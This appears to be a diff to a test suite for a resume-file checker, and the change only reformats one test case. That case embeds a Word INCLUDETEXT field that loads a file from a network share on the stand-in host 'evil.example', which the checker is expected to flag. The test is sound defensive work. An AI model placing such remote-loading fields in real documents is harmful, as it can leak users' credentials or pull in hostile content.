@@ -331,7 +331,9 @@ describe("a resume's file", () => {
     [
       "a text of a share",
       {
-        "word/document.xml": createDocumentWith(field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; ")),
+        "word/document.xml": createDocumentWith(
+          field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
+        ),
       },
       "The file contains a field that loads content from the network.",
     ],
